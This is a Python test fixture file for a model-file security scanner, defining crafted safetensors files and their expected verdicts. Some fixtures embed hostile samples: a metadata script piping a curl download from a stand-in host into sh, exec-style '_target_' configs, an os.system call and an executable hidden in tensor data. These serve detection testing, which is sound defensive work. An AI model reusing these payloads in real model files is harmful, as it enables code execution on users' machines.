"""safetensors by the real writer, and headers that do not account for their bytes."""

from __future__ import annotations

import json
from typing import Any

import numpy as np
from safetensors.numpy import save

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.gguf.chat_templates import LLAMA_3, MALICIOUS
from tests.scanners.native_code import elf

WEIGHT = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
BIAS = {"dtype": "F16", "shape": [2], "data_offsets": [16, 20]}


def real() -> bytes:
    """Return a file of the safetensors library with metadata and an empty tensor."""
    tensors: dict[str, np.ndarray[Any, Any]] = {
        "weight": np.ones((4, 8), np.float32),
        "bias": np.zeros(8, np.float16),
        "empty": np.zeros((0, 3), np.int64),
    }
    return save(tensors, {"format": "pt", "license": "apache-2.0", "note": "trained with os.system in mind"})


def built(header: object, data: bytes = bytes(20)) -> bytes:
    """Return a file of `header`, JSON text or a value, and `data`."""
    text = header if isinstance(header, str) else json.dumps(header)
    return len(text).to_bytes(8, "little") + text.encode() + data


def case(header: object, verdict: Verdict, data: bytes = bytes(20), cut_is_clean: bool = False) -> Case:
    """Return the case of a file of `header` and `data`."""
    return Case(lambda: built(header, data), "model.safetensors", verdict, cut_is_clean=cut_is_clean)


TWICE = f'{{"w": {json.dumps(WEIGHT)}, "w": {json.dumps(WEIGHT)}, "b": {json.dumps(BIAS)}}}'

CASES = {
    "benign_real": Case(real, "model.safetensors", Verdict.CLEAN),
    "benign_by_content": Case(real, "blob", Verdict.CLEAN),
    **{
        f"benign_header_of_{length}": case(json.dumps({"w": WEIGHT, "b": BIAS}).ljust(length), Verdict.CLEAN)
        for length in (0x0900, 0x0A00, 0x0D00, 0x2000)  # white space of JSON, were it UTF-16
    },
    "benign_padded_header": case(json.dumps({"w": WEIGHT, "b": BIAS}).ljust(200), Verdict.CLEAN),
    "benign_no_tensors": case({}, Verdict.CLEAN, b""),
    "template_runs_code": case(
        {"__metadata__": {"chat_template": MALICIOUS["subscript"]}, "w": WEIGHT, "b": BIAS}, Verdict.MALICIOUS
    ),
    "benign_template": case({"__metadata__": {"chat_template": LLAMA_3}, "w": WEIGHT, "b": BIAS}, Verdict.CLEAN),
    "code_in_metadata": case(
        {"__metadata__": {"init": "import os; os.system('echo modelsweep-test')"}, "w": WEIGHT, "b": BIAS},
        Verdict.REVIEW,
    ),
    "target_in_metadata": case(
        {"__metadata__": {"config": '{"_target_": "builtins.exec", "_args_": ["pass"]}'}, "w": WEIGHT, "b": BIAS},
        Verdict.MALICIOUS,
    ),
    "target_in_a_literal_in_metadata": case(
        {"__metadata__": {"config": "{'head': {'_target_': 'pydoc.pipepager', 'cmd': 'x'}}"}, "w": WEIGHT, "b": BIAS},
        Verdict.MALICIOUS,
    ),
    "benign_target_in_metadata": case(
        {"__metadata__": {"config": '{"_target_": "flextok.flextok_wrapper.FlexTok"}'}, "w": WEIGHT, "b": BIAS},
        Verdict.CLEAN,
    ),
    "benign_settings_in_metadata": case(
        {
            "__metadata__": {"config": '{"mode": "eval", "import": "os"}', "ss_tag": "rm, nc (bash)"},
            "w": WEIGHT,
            "b": BIAS,
        },
        Verdict.CLEAN,
    ),
    "script_in_metadata": case(
        {"__metadata__": {"note": "#!/bin/bash\ncurl http://192.0.2.1/run.sh | sh\n"}, "w": WEIGHT, "b": BIAS},
        Verdict.MALICIOUS,
    ),
    "duplicate_key": case(TWICE, Verdict.REVIEW),
    "overlapping_tensors": case({"w": WEIGHT, "b": {**BIAS, "data_offsets": [14, 18]}}, Verdict.REVIEW, bytes(18)),
    "gap_between_tensors": case({"w": WEIGHT, "b": {**BIAS, "data_offsets": [20, 24]}}, Verdict.REVIEW, bytes(24)),
    "trailing_bytes": case({"w": WEIGHT}, Verdict.REVIEW, bytes(16) + b"more", cut_is_clean=True),
    "executable_in_tensor": case(
        {"w": {"dtype": "U8", "shape": [1024], "data_offsets": [0, 1024]}}, Verdict.MALICIOUS, bytes(512) + elf()
    ),
    "tensor_beyond_the_end": case({"w": WEIGHT, "b": BIAS}, Verdict.NOT_SCANNED, bytes(19)),
    "shape_overflows": case({"w": {**WEIGHT, "shape": [2**62, 2**62, 2**62]}}, Verdict.REVIEW, bytes(16)),
    "size_mismatch": case({"w": {**WEIGHT, "shape": [2, 3]}}, Verdict.REVIEW, bytes(16)),
    "size_mismatch_beyond_the_end": case(
        {"w": {**WEIGHT, "shape": [2**33, 2**31], "data_offsets": [0, 64]}}, Verdict.REVIEW, bytes(16)
    ),
    "offsets_turned_round": case({"w": {**WEIGHT, "data_offsets": [16, 0]}}, Verdict.REVIEW, bytes(16)),
    "unknown_dtype": case({"w": {**WEIGHT, "dtype": "Q3"}}, Verdict.NOT_SCANNED, bytes(16)),
    "negative_size": case({"w": {**WEIGHT, "shape": [-2, -2]}}, Verdict.NOT_SCANNED, bytes(16)),
    "metadata_not_text": case({"__metadata__": {"a": 1}, "w": WEIGHT, "b": BIAS}, Verdict.NOT_SCANNED),
    "header_not_json": case('{"w": nothing}', Verdict.NOT_SCANNED),
    "header_nested_deep": case('{"w": ' + "[" * 100_000, Verdict.NOT_SCANNED),
    "header_length_of_2_63": Case(lambda: b"\xff" * 7 + b"\x7f" + b'{"w":', "model.safetensors", Verdict.REVIEW),
}
